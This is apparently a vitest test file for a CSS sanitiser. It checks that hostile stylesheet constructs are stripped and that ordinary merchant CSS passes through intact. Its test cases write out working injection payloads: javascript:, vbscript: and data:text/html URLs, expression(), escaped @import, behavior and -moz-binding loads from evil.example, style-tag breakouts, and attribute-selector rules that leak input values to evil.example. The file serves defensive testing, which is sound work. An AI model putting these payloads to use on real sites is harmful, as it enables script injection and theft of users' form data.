import { describe, expect, test } from 'vitest';
import { CSS_MAX_NESTING, CssTooDeepError, cssNestingDepth, sanitizeCss } from './css-sanitizer.js';

/*
 * The sanitiser on its own: each hostile construct from the issue, written
 * the ways attackers write it (escapes, quotes, case), must not survive, and
 * ordinary merchant CSS must come through intact.
 */

const survives = (css: string) => sanitizeCss(css).css;
const reasons = (css: string) => sanitizeCss(css).dropped.map((d) => d.reason);

describe('hostile CSS is stripped', () => {
  test.each([
    ['uppercase URL(JAVASCRIPT:)', `a{background:URL("JAVASCRIPT:alert(1)");color:red}`, 'url_not_allowed'],
    ['javascript: with a tab in the scheme', `a{background:url("java\tscript:alert(1)");color:red}`, 'url_not_allowed'],
    ['mixed-case Expression()', `a{width:ExPrEsSiOn(alert(1));color:red}`, 'function_not_allowed'],
    ['image-set() smuggling a URL', `a{background:image-set("javascript:alert(1)" 1x);color:red}`, 'function_not_allowed'],
    ['attr()', `a{background:attr(data-x url);color:red}`, 'function_not_allowed'],
    ['expression() in a custom property', `a{--x:expression(alert(1));color:red}`, 'function_not_allowed'],
    ['javascript: url in a custom property', `a{--x:url(javascript:alert(1));color:red}`, 'unparseable'],
    ['escaped @import', String.raw`@\69 mport url(https://evil.example/x.css); a{color:red}`, 'import_not_allowed'],
    ['plain @import', `@import "https://evil.example/x.css"; a{color:red}`, 'import_not_allowed'],
    ['url(javascript:)', `a{background:url(javascript:alert(1));color:red}`, 'unparseable'],
    ['quoted escaped javascript:', String.raw`a{background:url("\6a avascript:alert(1)");color:red}`, 'url_not_allowed'],
    ['vbscript:', `a{background:url('vbscript:msgbox(1)');color:red}`, 'url_not_allowed'],
    ['data:text/html', `a{background:url("data:text/html,<script>alert(1)</script>");color:red}`, 'url_not_allowed'],
    ['data:image/svg+xml', `a{background:url("data:image/svg+xml,<svg onload=alert(1)>");color:red}`, 'url_not_allowed'],
    ['http url', `a{background:url(http://evil.example/a.png);color:red}`, 'url_not_allowed'],
    ['protocol-relative url', `a{background:url(//evil.example/a.png);color:red}`, 'url_not_allowed'],
    ['expression()', `a{width:expression(alert(1));color:red}`, 'function_not_allowed'],
    ['escaped expression()', String.raw`a{width:e\78 pression(alert(1));color:red}`, 'function_not_allowed'],
    ['behavior:', `a{behavior:url(https://evil.example/x.htc);color:red}`, 'property_not_allowed'],
    ['escaped behavior', String.raw`a{beh\61vior:url(https://evil.example/x.htc);color:red}`, 'property_not_allowed'],
    ['-moz-binding', `a{-moz-binding:url("https://evil.example/xbl.xml#x");color:red}`, 'property_not_allowed'],
    ['escaped url function', String.raw`a{background:u\72 l(https://evil.example/a);color:red}`, 'unparseable'],
  ])('%s', (_name, css, reason) => {
    const { css: out, dropped } = sanitizeCss(css);
    expect(dropped.map((d) => d.reason)).toContain(reason);
    expect(out).toBe('a{color:red}');
  });

  test('hostile parts inside grouping rules, keyframes and @font-face are stripped too', () => {
    const { css } = sanitizeCss(String.raw`@media screen{a{width:e8 pression(1);color:red}}
      @supports (background:url(javascript:1)){b{color:red}}
      @keyframes k{from{background:url(javascript:alert(1))}to{opacity:1}}
      @font-face{font-family:X;src:url(javascript:alert(1))}
      @media (min-width:expression(1)){c{color:red}}
      @media print{@\69 mport url(https://evil.example/x.css);d{color:red}}`);
    expect(css).toBe('@media screen{a{color:red}}@keyframes k{from{}to{opacity:1}}@font-face{font-family:X}@media print{d{color:red}}');
  });

  test('a sheet nested deeper than the parser can take is refused whole, without parsing', () => {
    const deep = '@media screen{'.repeat(5000) + 'a{color:red}' + '}'.repeat(5000);
    expect(() => sanitizeCss(deep)).toThrow(CssTooDeepError);
    expect(cssNestingDepth('a{content:"{{{{"}/* (((( */b{color:red}')).toBe(1);
    expect(cssNestingDepth('@media x{'.repeat(CSS_MAX_NESTING - 1) + 'a{b:c}' + '}'.repeat(CSS_MAX_NESTING - 1))).toBe(CSS_MAX_NESTING);
  });

  test('attribute-selector exfiltration to a foreign host loses its URL, keeps its styling', () => {
    const css = `input[value^="a"]{background:url(https://evil.example/?k=a);color:red}
      input[name="pin"][value$="1"]{background-image:url("https://evil.example/?k=1")}
      form:has(input[value*="x"]){border-image:url(https://evil.example/x) 30}`;
    const { css: out, dropped } = sanitizeCss(css);
    expect(out).not.toContain('evil.example');
    expect(out).toContain('input[value^="a"]{color:red}');
    expect(dropped.filter((d) => d.reason === 'url_with_attribute_selector')).toHaveLength(3);
  });

  test('</style><script> cannot break out of a style element', () => {
    const out = survives(`a{content:"</style><script>alert(1)</script>"} </style><script>alert(2)</script>`);
    expect(out).not.toMatch(/</);
    expect(out).toContain(String.raw`a{content:"\3c /style>\3c script>alert(1)\3c /script>"}`);
  });

  test('an escaped name that decodes to punctuation cannot restructure the sheet', () => {
    expect(survives(String.raw`a{--x\3b background\3a url\28 javascript:1\29:1;color:red}`)).toBe('a{color:red}');
  });

  test('at-rules outside the allow-list are dropped, names decoded first', () => {
    expect(reasons(String.raw`@n\61 mespace svg url(http://www.w3.org/2000/svg); @charset "utf-8"; @page{margin:0} a{color:red}`))
      .toEqual(['at_rule_not_allowed', 'at_rule_not_allowed', 'at_rule_not_allowed']);
  });

  test('unknown properties, nested rules and unparseable junk are reported, with positions', () => {
    const { css, dropped } = sanitizeCss('a{colour:red;color:blue}\nb{ c{color:red} }\nd{color:red;}}}{{');
    expect(css).toBe('a{color:blue}b{}d{color:red}');
    expect(dropped[0]).toEqual({ what: 'colour', reason: 'unknown_property', line: 1, column: 3 });
    // css-tree 3 does not parse nesting: a nested rule is unparseable inside a declaration block.
    expect(dropped.slice(1).map((d) => d.reason)).toEqual(['unparseable', 'unparseable']);
  });
});

test('ordinary merchant CSS survives as written', () => {
  const css = [
    ':root{--brand:#1f6feb;--radius:8px}',
    '.subscription-card{background:linear-gradient(90deg,rgb(0 0 0/50%),var(--brand));border-radius:var(--radius);transform:translateX(2px)}',
    '.btn-primary:hover{color:#fff!important}',
    '@media (min-width:600px){.portal-nav{display:flex;gap:calc(1rem + 2px)}}',
    '@supports (display:grid){.grid{display:grid;grid-template-columns:repeat(3,minmax(0,1fr))}}',
    '@keyframes fade{from{opacity:0}50%{opacity:.5}to{opacity:1}}',
    '@font-face{font-family:Brand;src:url(https://cdn.example/brand.woff2) format("woff2");font-display:swap}',
    '.logo{background:url(data:image/png;base64,iVBORw0KGgo=)}',
  ].join('');
  const { css: out, dropped } = sanitizeCss(css);
  expect(dropped).toEqual([]);
  expect(out).toBe(css.replace(') format', ')format'));
});
